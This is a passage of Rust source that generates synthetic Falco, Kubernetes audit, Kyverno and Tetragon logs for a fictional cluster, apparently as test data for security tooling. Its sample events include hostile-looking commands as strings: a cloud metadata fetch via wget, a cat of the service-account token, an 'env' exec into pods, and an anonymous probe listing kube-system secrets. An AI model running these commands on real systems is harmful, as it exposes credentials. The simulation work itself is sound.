        q_list(&mut o, rule.tags);
        let _ = write!(o, ",\"time\":\"{t_out}Z\",\"output_fields\":{{\"container.id\":\"{}\",\"container.image.repository\":\"{repo}\",\"container.image.tag\":\"{tag}\",\"container.name\":\"{}\",\"evt.time\":{evt_ns},\"evt.type\":\"{}\",", &cid[..12], wl.container, rule.evt_type);
        if let Some(fd) = rule.fd {
            let _ = write!(o, "\"fd.name\":\"{fd}\",");
        }
        let _ = write!(
            o,
            "\"k8s.ns.name\":\"{}\",\"k8s.pod.name\":\"{pod}\",\"proc.cmdline\":",
            wl.ns
        );
        q(&mut o, cmd);
        let _ = writeln!(
            o,
            ",\"proc.exepath\":\"/usr/bin/{proc_name}\",\"proc.name\":\"{proc_name}\",\"proc.pname\":\"containerd-shim\",\"proc.pid\":{pid},\"proc.tty\":34816,\"user.loginuid\":-1,\"user.name\":\"{}\",\"user.uid\":{}}}}}",
            user.0, user.1
        );
    }
    o
}

// ---------------------------------------------------------------------------------------
// Kubernetes audit
// ---------------------------------------------------------------------------------------

fn audit_file(e: &Estate, day_idx: usize, count: u64, rng: &mut Rng) -> String {
    let day = &e.days[day_idx];
    let week = (day_idx / 7) as u64;
    let times = times_of_day(rng, count as usize);
    let mix = cumulative([40.0, 14.0, 12.0, 10.0, 12.0, 4.0, 3.0, 2.0, 2.0, 1.0].into_iter());
    let mut o = String::with_capacity(count as usize * 1400);
    for t in times {
        let kind = rng.weighted(&mix);
        let wl = &e.workloads[rng.weighted(&e.workload_weights)];
        let (pod, node_idx, _) = rng.pick(&wl.pods);
        let node = &e.nodes[*node_idx];
        let received = ts_string(day, t, 6);
        let stage = ts_string(day, t + 1_000_000 + rng.below(40_000_000), 6);
        let audit_id = rng.uuid();
        let ns = &wl.ns;
        // (level, verb, uri, user, groups, resource, subresource, name, code, agent)
        let human = [
            "alice@example.com",
            "bob@example.com",
            "ci-deployer@example.com",
            "oncall@example.com",
        ];
        o.push_str("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",");
        match kind {
            // 0: lease renewals and gets by system components (Metadata level, small)
            0 | 4 => {
                let (res, group, name, user) = if kind == 0 {
                    (
                        "leases",
                        "coordination.k8s.io",
                        node.name.clone(),
                        format!("system:node:{}", node.name),
                    )
                } else {
                    (
                        "configmaps",
                        "",
                        format!("{}-config", wl.name),
                        format!("system:serviceaccount:{ns}:{}", wl.name),
                    )
                };
                let lease_ns = if kind == 0 {
                    "kube-node-lease"
                } else {
                    ns.as_str()
                };
                let verb = if kind == 0 { "update" } else { "get" };
                let prefix = if group.is_empty() {
                    "/api/v1".to_string()
                } else {
                    format!("/apis/{group}/v1")
                };
                let _ = write!(
                    o,
                    "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"{prefix}/namespaces/{lease_ns}/{res}/{name}{}\",\"verb\":\"{verb}\",\"user\":{{\"username\":\"{user}\",\"groups\":[\"{}\",\"system:authenticated\"]}},\"sourceIPs\":[\"{}\"],\"userAgent\":\"{}\",\"objectRef\":{{\"resource\":\"{res}\",\"namespace\":\"{lease_ns}\",\"name\":\"{name}\",\"apiGroup\":\"{group}\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":200}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"\"}}}}",
                    if kind == 0 { "?timeout=10s" } else { "" },
                    if kind == 0 { "system:nodes" } else { "system:serviceaccounts" },
                    node.ip,
                    if kind == 0 { "kubelet/v1.30.5 (linux/amd64) kubernetes/74e84a9" } else { "Go-http-client/2.0" }
                );
            }
            // 1: list/watch pods by controllers
            1 => {
                let _ = write!(
                    o,
                    "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/{ns}/pods?labelSelector=app%3D{}&limit=500\",\"verb\":\"list\",\"user\":{{\"username\":\"system:serviceaccount:kube-system:replicaset-controller\",\"uid\":\"{}\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:kube-system\",\"system:authenticated\"]}},\"sourceIPs\":[\"10.240.0.4\"],\"userAgent\":\"kube-controller-manager/v1.30.5 (linux/amd64) kubernetes/74e84a9/system:serviceaccount:kube-system:replicaset-controller\",\"objectRef\":{{\"resource\":\"pods\",\"namespace\":\"{ns}\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":200}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"system:controller:replicaset-controller\\\" of ClusterRole \\\"system:controller:replicaset-controller\\\" to ServiceAccount \\\"replicaset-controller/kube-system\\\"\"}}}}",
                    wl.name,
                    rng.uuid()
                );
            }
            // 2: pod creates with the request body and PSA annotations
            2 | 9 => {
                let denied = kind == 9;
                let img = &e.images[wl.image];
                let tag = if wl.latest {
                    "latest".to_string()
                } else {
                    img.tag(week)
                };
                let image = format!("{}:{tag}", img.full_repo());
                let gen_name = pod
                    .rsplit_once('-')
                    .map(|(a, _)| format!("{a}-"))
                    .unwrap_or_default();
                let _ = write!(
                    o,
                    "\"level\":\"Request\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/{ns}/pods\",\"verb\":\"create\",\"user\":{{\"username\":\"system:serviceaccount:kube-system:replicaset-controller\",\"uid\":\"{}\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:kube-system\",\"system:authenticated\"]}},\"sourceIPs\":[\"10.240.0.4\"],\"userAgent\":\"kube-controller-manager/v1.30.5 (linux/amd64) kubernetes/74e84a9/system:serviceaccount:kube-system:replicaset-controller\",\"objectRef\":{{\"resource\":\"pods\",\"namespace\":\"{ns}\",\"name\":\"{}\",\"apiVersion\":\"v1\"}},",
                    rng.uuid(),
                    if denied { "" } else { pod.as_str() }
                );
                if denied {
                    o.push_str(
                        "\"responseStatus\":{\"metadata\":{},\"status\":\"Failure\",\"message\":",
                    );
                    q(&mut o, &format!("admission webhook \"validate.kyverno.svc-fail\" denied the request: \n\nresource Pod/{ns}/{pod} was blocked due to the following policies \n\ndisallow-privileged-containers:\n  privileged-containers: 'validation error: Privileged mode is disallowed. The fields spec.containers[*].securityContext.privileged must be unset or set to `false`. rule privileged-containers failed at path /spec/containers/0/securityContext/privileged/'\n"));
                    o.push_str(",\"reason\":\"BadRequest\",\"code\":400},");
                } else {
                    o.push_str("\"responseStatus\":{\"metadata\":{},\"code\":201},");
                }
                let _ = write!(
                    o,
                    "\"requestObject\":{{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{{\"generateName\":\"{gen_name}\",\"namespace\":\"{ns}\",\"creationTimestamp\":null,\"labels\":{{\"app\":\"{}\",\"app.kubernetes.io/name\":\"{}\",\"pod-template-hash\":\"{}\"}},\"annotations\":{{\"kubectl.kubernetes.io/restartedAt\":\"{received}\"}},\"ownerReferences\":[{{\"apiVersion\":\"apps/v1\",\"kind\":\"ReplicaSet\",\"name\":\"{}\",\"uid\":\"{}\",\"controller\":true,\"blockOwnerDeletion\":true}}]}},\"spec\":{{\"volumes\":[{{\"name\":\"kube-api-access-{}\",\"projected\":{{\"sources\":[{{\"serviceAccountToken\":{{\"expirationSeconds\":3607,\"path\":\"token\"}}}},{{\"configMap\":{{\"name\":\"kube-root-ca.crt\",\"items\":[{{\"key\":\"ca.crt\",\"path\":\"ca.crt\"}}]}}}}],\"defaultMode\":420}}}}",
                    wl.name,
                    wl.name,
                    rng.hex_string(10),
                    gen_name.trim_end_matches('-'),
                    wl.uid,
                    rng.hex_string(5)
                );
                if wl.host_path {
                    o.push_str(",{\"name\":\"host-root\",\"hostPath\":{\"path\":\"/var/run/docker.sock\",\"type\":\"\"}}");
                }
                let _ = write!(
                    o,
                    "],\"containers\":[{{\"name\":\"{}\",\"image\":\"{image}\",\"ports\":[{{\"containerPort\":8080,\"protocol\":\"TCP\"}}],\"env\":[{{\"name\":\"LOG_LEVEL\",\"value\":\"info\"}},{{\"name\":\"DB_PASSWORD\",\"valueFrom\":{{\"secretKeyRef\":{{\"name\":\"{}-db\",\"key\":\"password\"}}}}}}],\"resources\":{{\"limits\":{{\"cpu\":\"500m\",\"memory\":\"512Mi\"}},\"requests\":{{\"cpu\":\"100m\",\"memory\":\"128Mi\"}}}},\"livenessProbe\":{{\"httpGet\":{{\"path\":\"/healthz\",\"port\":8080,\"scheme\":\"HTTP\"}},\"timeoutSeconds\":1,\"periodSeconds\":10,\"successThreshold\":1,\"failureThreshold\":3}},\"terminationMessagePath\":\"/dev/termination-log\",\"terminationMessagePolicy\":\"File\",\"imagePullPolicy\":\"IfNotPresent\",\"securityContext\":{{",
                    wl.container, wl.name
                );
                if wl.privileged || denied {
                    o.push_str("\"privileged\":true,");
                }
                let _ = write!(
                    o,
                    "\"runAsNonRoot\":{},\"readOnlyRootFilesystem\":{},\"allowPrivilegeEscalation\":{}}}}}],\"restartPolicy\":\"Always\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"ClusterFirst\",\"serviceAccountName\":\"{}\",\"securityContext\":{{}},\"schedulerName\":\"default-scheduler\",\"enableServiceLinks\":true,\"preemptionPolicy\":\"PreemptLowerPriority\"}},\"status\":{{}}}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"system:controller:replicaset-controller\\\" of ClusterRole \\\"system:controller:replicaset-controller\\\" to ServiceAccount \\\"replicaset-controller/kube-system\\\"\",\"pod-security.kubernetes.io/enforce-policy\":\"{}:latest\"",
                    !wl.run_as_root,
                    !wl.run_as_root,
                    wl.privileged,
                    wl.name,
                    if ns.ends_with("prod") { "baseline" } else { "privileged" }
                );
                if wl.privileged || wl.run_as_root || wl.host_path {
                    let mut v = String::from("would violate PodSecurity \"restricted:latest\": ");
                    let mut parts = Vec::new();
                    if wl.privileged {
                        parts.push(format!("privileged (container \"{}\" must not set securityContext.privileged=true)", wl.container));
                    }
                    if wl.run_as_root {
                        parts.push(format!("runAsNonRoot != true (pod or container \"{}\" must set securityContext.runAsNonRoot=true)", wl.container));
                    }
                    if wl.host_path {
                        parts.push("restricted volume types (volume \"host-root\" uses restricted volume type \"hostPath\")".to_string());
                    }
                    parts.push(format!("seccompProfile (pod or container \"{}\" must set securityContext.seccompProfile.type to \"RuntimeDefault\" or \"Localhost\")", wl.container));
                    v.push_str(&parts.join(", "));
                    o.push_str(",\"pod-security.kubernetes.io/audit-violations\":");
                    q(&mut o, &v);
                }
                o.push_str("}}");
            }
            // 3: secret reads
            3 => {
                let human_read = rng.chance(0.1);
                let user = if human_read {
                    rng.pick(&human).to_string()
                } else {
                    format!("system:serviceaccount:{ns}:{}", wl.name)
                };
                let _ = write!(
                    o,
                    "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/{ns}/secrets/{}-db\",\"verb\":\"get\",\"user\":{{\"username\":\"{user}\",\"groups\":[\"{}\",\"system:authenticated\"]}},\"sourceIPs\":[\"{}\"],\"userAgent\":\"{}\",\"objectRef\":{{\"resource\":\"secrets\",\"namespace\":\"{ns}\",\"name\":\"{}-db\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":200}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by RoleBinding \\\"{}-secrets/{ns}\\\" of Role \\\"secret-reader\\\" to ServiceAccount \\\"{}/{ns}\\\"\"}}}}",
                    wl.name,
                    if human_read { "oidc:platform-admins" } else { "system:serviceaccounts" },
                    if human_read { "203.0.113.24".to_string() } else { node.ip.clone() },
                    if human_read { "kubectl/v1.31.1 (darwin/arm64) kubernetes/948afe5" } else { "Go-http-client/2.0" },
                    wl.name,
                    wl.name,
                    wl.name
                );
            }
            // 5: exec into pods
            5 => {
                let user = rng.pick(&human);
                let _ = write!(
                    o,
                    "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseStarted\",\"requestURI\":\"/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&command=-c&command=env&container={}&stdin=true&stdout=true&tty=true\",\"verb\":\"create\",\"user\":{{\"username\":\"{user}\",\"groups\":[\"oidc:developers\",\"system:authenticated\"]}},\"sourceIPs\":[\"203.0.113.{}\"],\"userAgent\":\"kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5\",\"objectRef\":{{\"resource\":\"pods\",\"namespace\":\"{ns}\",\"name\":\"{pod}\",\"apiVersion\":\"v1\",\"subresource\":\"exec\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":101}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"oidc-developers-exec\\\" of ClusterRole \\\"edit\\\" to Group \\\"oidc:developers\\\"\"}}}}",
                    wl.container,
                    rng.range(2, 250)
                );
            }
            // 6: RBAC changes
            6 => {
                let user = rng.pick(&human);
                let _ = write!(
                    o,
                    "\"level\":\"RequestResponse\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/rolebindings\",\"verb\":\"create\",\"user\":{{\"username\":\"{user}\",\"groups\":[\"oidc:platform-admins\",\"system:authenticated\"]}},\"sourceIPs\":[\"203.0.113.24\"],\"userAgent\":\"kubectl/v1.31.1 (darwin/arm64) kubernetes/948afe5\",\"objectRef\":{{\"resource\":\"rolebindings\",\"namespace\":\"{ns}\",\"name\":\"{}-edit\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":201}},\"requestObject\":{{\"kind\":\"RoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{{\"name\":\"{}-edit\",\"namespace\":\"{ns}\"}},\"subjects\":[{{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":\"{user}\"}}],\"roleRef\":{{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"edit\"}}}},\"responseObject\":{{\"kind\":\"RoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{{\"name\":\"{}-edit\",\"namespace\":\"{ns}\",\"uid\":\"{}\",\"resourceVersion\":\"{}\",\"creationTimestamp\":\"{}\"}},\"subjects\":[{{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":\"{user}\"}}],\"roleRef\":{{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"edit\"}}}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"platform-admins\\\" of ClusterRole \\\"cluster-admin\\\" to Group \\\"oidc:platform-admins\\\"\"}}}}",
                    wl.name,
                    wl.name,
                    wl.name,
                    rng.uuid(),
                    rng.range(1_000_000, 99_000_000),
                    ts_string(day, t, 0)
                );
            }
            // 7: anonymous probes (forbidden), 8: network policy updates
            _ => {
                if kind == 7 {
                    let _ = write!(
                        o,
                        "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/kube-system/secrets\",\"verb\":\"list\",\"user\":{{\"username\":\"system:anonymous\",\"groups\":[\"system:unauthenticated\"]}},\"sourceIPs\":[\"198.51.100.{}\"],\"userAgent\":\"python-requests/2.31.0\",\"objectRef\":{{\"resource\":\"secrets\",\"namespace\":\"kube-system\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"status\":\"Failure\",\"message\":\"secrets is forbidden: User \\\"system:anonymous\\\" cannot list resource \\\"secrets\\\" in API group \\\"\\\" in the namespace \\\"kube-system\\\"\",\"reason\":\"Forbidden\",\"details\":{{\"kind\":\"secrets\"}},\"code\":403}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"forbid\",\"authorization.k8s.io/reason\":\"\"}}}}",
                        rng.range(2, 250)
                    );
                } else {
                    let _ = write!(
                        o,
                        "\"level\":\"Metadata\",\"auditID\":\"{audit_id}\",\"stage\":\"ResponseComplete\",\"requestURI\":\"/apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies/default-deny\",\"verb\":\"patch\",\"user\":{{\"username\":\"system:serviceaccount:argocd:argocd-application-controller\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:argocd\",\"system:authenticated\"]}},\"sourceIPs\":[\"10.244.0.31\"],\"userAgent\":\"argocd-application-controller/v2.12.4\",\"objectRef\":{{\"resource\":\"networkpolicies\",\"namespace\":\"{ns}\",\"name\":\"default-deny\",\"apiGroup\":\"networking.k8s.io\",\"apiVersion\":\"v1\"}},\"responseStatus\":{{\"metadata\":{{}},\"code\":200}},\"requestReceivedTimestamp\":\"{received}\",\"stageTimestamp\":\"{stage}\",\"annotations\":{{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"argocd-application-controller\\\" of ClusterRole \\\"argocd-application-controller\\\" to ServiceAccount \\\"argocd-application-controller/argocd\\\"\"}}}}"
                    );
                }
            }
        }
        o.push('\n');
    }
    o
}

// ---------------------------------------------------------------------------------------
// Kyverno PolicyReports
// ---------------------------------------------------------------------------------------

static KYVERNO: &[(&str, &str, &str, &str)] = &[
    (
        "disallow-privileged-containers",
        "privileged-containers",
        "high",
        "Pod Security Standards (Baseline)",
    ),
    (
        "disallow-host-path",
        "host-path",
        "medium",
        "Pod Security Standards (Baseline)",
    ),
    (
        "disallow-host-namespaces",
        "host-namespaces",
        "medium",
        "Pod Security Standards (Baseline)",
    ),
    (
        "disallow-capabilities",
        "adding-capabilities",
        "medium",
        "Pod Security Standards (Baseline)",
    ),
    (
        "require-run-as-nonroot",
        "run-as-non-root",
        "medium",
        "Pod Security Standards (Restricted)",
    ),
    (
        "disallow-privilege-escalation",
        "privilege-escalation",
        "medium",
        "Pod Security Standards (Restricted)",
    ),
    (
        "restrict-seccomp-strict",
        "check-seccomp-strict",
        "medium",
        "Pod Security Standards (Restricted)",
    ),
    (
        "disallow-latest-tag",
        "validate-image-tag",
        "medium",
        "Best Practices",
    ),
    (
        "require-requests-limits",
        "validation",
        "medium",
        "Best Practices",
    ),
    (
        "restrict-image-registries",
        "validate-registries",
        "high",
        "Best Practices",
    ),
    (
        "require-ro-rootfs",
        "validate-readOnlyRootFilesystem",
        "medium",
        "Best Practices",
    ),
];

fn policy_report_list(e: &Estate, week: u64, rng: &mut Rng) -> String {
    let day = &e.days[week_start(week).min(e.days.len() - 1)];
    let secs = day.epoch_s + 3 * 3600;
    let mut o = String::with_capacity(e.workloads.len() * 4000);
    o.push_str("{\n  \"apiVersion\": \"v1\",\n  \"kind\": \"List\",\n  \"items\": [");
    for (i, wl) in e.workloads.iter().enumerate() {
        let img = &e.images[wl.image];
        let mut results = String::new();
        let mut summary = [0u32; 2];
        for (j, (policy, rule, sev, cat)) in KYVERNO.iter().enumerate() {
            let fail = match *policy {
                "disallow-privileged-containers" => wl.privileged,
                "disallow-host-path" => wl.host_path,
                "require-run-as-nonroot" | "require-ro-rootfs" => wl.run_as_root,
                "disallow-latest-tag" => wl.latest,
                "restrict-image-registries" => !img.registry.starts_with("registry.example.com"),
                "restrict-seccomp-strict" => rng.chance(0.5),
                _ => rng.chance(0.03),
            };
            summary[fail as usize] += 1;
            if j > 0 {
                results.push(',');
            }
            let msg = if fail {
                format!("validation error: rule {rule} failed at path /spec/containers/0/securityContext/. The fields spec.containers[*].securityContext must comply with \"{policy}\".")
            } else {
                "validation rule '".to_string() + rule + "' passed."
            };
            let _ = write!(
                results,
                "\n        {{\"category\": \"{cat}\", \"message\": {}, \"policy\": \"{policy}\", \"result\": \"{}\", \"rule\": \"{rule}\", \"scored\": true, \"severity\": \"{sev}\", \"source\": \"kyverno\", \"timestamp\": {{\"nanos\": 0, \"seconds\": {}}}}}",
                serde_json::to_string(&msg).unwrap_or_default(),
                if fail { "fail" } else { "pass" },
                secs + i as i64
            );
        }
        if i > 0 {
            o.push(',');
        }
        let _ = write!(
            o,
            "\n    {{\n      \"apiVersion\": \"wgpolicyk8s.io/v1alpha2\",\n      \"kind\": \"PolicyReport\",\n      \"metadata\": {{\"creationTimestamp\": \"{}T03:00:00Z\", \"generation\": {}, \"labels\": {{\"app.kubernetes.io/managed-by\": \"kyverno\"}}, \"name\": \"{}\", \"namespace\": \"{}\", \"ownerReferences\": [{{\"apiVersion\": \"apps/v1\", \"kind\": \"{}\", \"name\": \"{}\", \"uid\": \"{}\"}}], \"resourceVersion\": \"{}\", \"uid\": \"{}\"}},\n      \"scope\": {{\"apiVersion\": \"apps/v1\", \"kind\": \"{}\", \"name\": \"{}\", \"namespace\": \"{}\", \"uid\": \"{}\"}},\n      \"summary\": {{\"error\": 0, \"fail\": {}, \"pass\": {}, \"skip\": 0, \"warn\": 0}},\n      \"results\": [{results}\n      ]\n    }}",
            e.days[0].date,
            week + 1,
            wl.uid,
            wl.ns,
            wl.kind,
            wl.name,
            wl.uid,
            rng.range(1_000_000, 90_000_000),
            rng.uuid(),
            wl.kind,
            wl.name,
            wl.ns,
            wl.uid,
            summary[1],
            summary[0]
        );
    }
    o.push_str("\n  ]\n}\n");
    o
}

// ---------------------------------------------------------------------------------------
// Tetragon
// ---------------------------------------------------------------------------------------

fn b64ish(rng: &mut Rng, n: usize) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..n).map(|_| A[rng.below(64) as usize] as char).collect()
}

static TETRA_BINARIES: &[(&str, &str)] = &[
    (
        "/usr/bin/curl",
        "-s -o /dev/null -w %{http_code} http://localhost:8080/healthz",
    ),
    ("/bin/sh", "-c \"/app/start --config /etc/app/config.yaml\""),
    ("/usr/local/bin/python3", "/app/manage.py migrate --noinput"),
    ("/usr/bin/java", "-XX:MaxRAMPercentage=75 -jar /app/app.jar"),
    ("/app/server", "--port 8080 --metrics-port 9090"),
    (
        "/usr/bin/wget",
        "-qO- http://169.254.169.254/latest/meta-data/",
    ),
    (
        "/bin/cat",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
    ("/usr/local/bin/node", "/app/dist/index.js"),
];

fn tetragon_file(e: &Estate, day_idx: usize, count: u64, rng: &mut Rng) -> String {
    let day = &e.days[day_idx];
    let week = (day_idx / 7) as u64;
    let times = times_of_day(rng, count as usize);
    let mut o = String::with_capacity(count as usize * 1700);
    for t in times {
        let wl = &e.workloads[rng.weighted(&e.workload_weights)];
        let (pod, node_idx, cid) = rng.pick(&wl.pods);
        let node = &e.nodes[*node_idx];
        let img = &e.images[wl.image];
        let (bin, args) = rng.pick(TETRA_BINARIES);
        let time = ts_string(day, t, 9);
        let start = ts_string(day, t.saturating_sub(3_000_000), 9);
        let exec_id = b64ish(rng, 64);
        let parent_id = b64ish(rng, 64);
        o.push_str("{\"process_exec\":{\"process\":{");
        let _ = write!(
            o,
            "\"exec_id\":\"{exec_id}\",\"pid\":{},\"uid\":{},\"cwd\":\"/app\",\"binary\":\"{bin}\",\"arguments\":",
            rng.range(100, 4_000_000),
            if wl.run_as_root { 0 } else { 10001 }
        );
        q(&mut o, args);
        let _ = write!(
            o,
            ",\"flags\":\"execve clone\",\"start_time\":\"{start}\",\"auid\":4294967295,\"pod\":{{\"namespace\":\"{}\",\"name\":\"{pod}\",\"container\":{{\"id\":\"containerd://{cid}\",\"name\":\"{}\",\"image\":{{\"id\":\"{}@{}\",\"name\":\"{}:{}\"}},\"start_time\":\"{}T00:00:00Z\",\"pid\":{}}},\"pod_labels\":{{\"app\":\"{}\",\"pod-template-hash\":\"{}\"}},\"workload\":\"{}\",\"workload_kind\":\"{}\"}},\"docker\":\"{}\",\"parent_exec_id\":\"{parent_id}\",\"refcnt\":1,\"tid\":{}}},",
            wl.ns,
            wl.container,
            img.full_repo(),
            img.digest(week, e.seed),
            img.full_repo(),
            img.tag(week),
            day.date,
            rng.range(1, 200),
            wl.name,
            &cid[..10],
            wl.name,
            wl.kind,
            &cid[..31],
            rng.range(100, 4_000_000)
        );
        let _ = writeln!(
            o,
            "\"parent\":{{\"exec_id\":\"{parent_id}\",\"pid\":{},\"uid\":0,\"cwd\":\"/\",\"binary\":\"/usr/bin/containerd-shim-runc-v2\",\"arguments\":\"-namespace k8s.io -id {cid} -address /run/containerd/containerd.sock\",\"flags\":\"execve clone\",\"start_time\":\"{}T00:00:00.000000000Z\",\"auid\":4294967295,\"parent_exec_id\":\"{}\",\"refcnt\":2,\"tid\":{}}}}},\"node_name\":\"{}\",\"time\":\"{time}\"}}",
            rng.range(100, 4_000_000),
            day.date,
            b64ish(rng, 64),
            rng.range(100, 4_000_000),
            node.name
        );
    }
    o
}

// ---------------------------------------------------------------------------------------
// Jobs: one per output file, run in parallel
// ---------------------------------------------------------------------------------------

enum Job {
    Trivy { image: usize, week: u64 },
    Grype { image: usize },
    KubeBench { node: usize, week: u64 },
    Falco { day: usize, count: u64 },
    Audit { day: usize, count: u64 },
    Policy { week: u64 },
    Tetragon { day: usize, count: u64 },
}

impl Job {
    /// Relative output path (without the `.gz` of gzip mode).
    fn path(&self, e: &Estate) -> String {
        let week_dir = |w: u64| e.days[week_start(w).min(e.days.len() - 1)].date.clone();
        match self {
            Job::Trivy { image, week } => {
                format!("trivy/{}/{}.json", week_dir(*week), e.images[*image].slug)
            }
            Job::Grype { image } => format!("grype/{}.json", e.images[*image].slug),
            Job::KubeBench { node, week } => format!(
                "kube-bench/{}/{}.json",
                week_dir(*week),
                e.nodes[*node].name
            ),
            Job::Falco { day, .. } => format!("falco/falco-{}.jsonl", e.days[*day].date),
            Job::Audit { day, .. } => format!("k8s-audit/audit-{}.jsonl", e.days[*day].date),
            Job::Policy { week } => format!("policy-report/policyreports-{}.json", week_dir(*week)),
            Job::Tetragon { day, .. } => format!("tetragon/tetragon-{}.jsonl", e.days[*day].date),
        }
    }

    fn render(&self, e: &Estate, rng: &mut Rng) -> String {
        match self {
            Job::Trivy { image, week } => trivy_report(e, *image, *week, rng),
            Job::Grype { image } => grype_report(e, *image, rng),
            Job::KubeBench { node, week } => kube_bench_report(e, *node, *week, rng),
            Job::Falco { day, count } => falco_file(e, *day, *count, rng),
            Job::Audit { day, count } => audit_file(e, *day, *count, rng),
            Job::Policy { week } => policy_report_list(e, *week, rng),
            Job::Tetragon { day, count } => tetragon_file(e, *day, *count, rng),
        }
    }
}

/// Split `total` events over `days` with ±25% day-to-day jitter (weekends quieter).
fn daily_counts(rng: &mut Rng, total: u64, days: &[Day]) -> Vec<u64> {
    let weights: Vec<f64> = (0..days.len())
        .map(|i| {
            let weekend = matches!((days[i].epoch_s / 86_400 + 4) % 7, 0 | 6);
            (0.75 + rng.f64() * 0.5) * if weekend { 0.6 } else { 1.0 }
        })
        .collect();
    let sum: f64 = weights.iter().sum();
    let mut counts: Vec<u64> = weights
        .iter()
        .map(|w| (total as f64 * w / sum) as u64)
        .collect();
    let assigned: u64 = counts.iter().sum();
    if let Some(last) = counts.last_mut() {
        *last += total - assigned;
    }
    counts
}

fn main() {
    let args = Args::parse();
    let knobs = match resolve(&args) {
        Ok(k) => k,
        Err(e) => {
            eprintln!("gen_workload: {e}");
            std::process::exit(2);
        }
    };
    let started = std::time::Instant::now();
    let e = build_estate(args.seed, knobs);
    let mut rng = Rng::new(args.seed, 1);
    let mut jobs = Vec::new();
    if knobs.trivy_only {
        for i in 0..e.images.len() {
            jobs.push(Job::Trivy {
                image: i,
                week: e.weeks - 1,
            });
        }
    }
    for w in (0..e.weeks).filter(|_| !knobs.trivy_only) {
        for i in 0..e.images.len() {
            jobs.push(Job::Trivy { image: i, week: w });
        }
        for n in 0..e.nodes.len() {
            jobs.push(Job::KubeBench { node: n, week: w });
        }
        jobs.push(Job::Policy { week: w });
    }
    for i in (0..e.images.len()).filter(|_| !knobs.trivy_only) {
        jobs.push(Job::Grype { image: i });
    }
    let counts = |rng: &mut Rng, total| daily_counts(rng, total, &e.days);
    let events = !knobs.trivy_only;
    for (d, c) in counts(&mut rng, knobs.falco_alerts)
        .into_iter()
        .enumerate()
        .filter(|_| events)
    {
        jobs.push(Job::Falco { day: d, count: c });
    }
    for (d, c) in counts(&mut rng, knobs.audit_events)
        .into_iter()
        .enumerate()
        .filter(|_| events)
    {
        jobs.push(Job::Audit { day: d, count: c });
    }
    for (d, c) in counts(&mut rng, knobs.tetragon_events)
        .into_iter()
        .enumerate()
        .filter(|_| events)
    {
        jobs.push(Job::Tetragon { day: d, count: c });
    }
    // Largest jobs first, so the parallel tail is short.
    jobs.sort_by_key(|j| match j {
        Job::Falco { count, .. } | Job::Audit { count, .. } | Job::Tetragon { count, .. } => {
            u64::MAX - count
        }
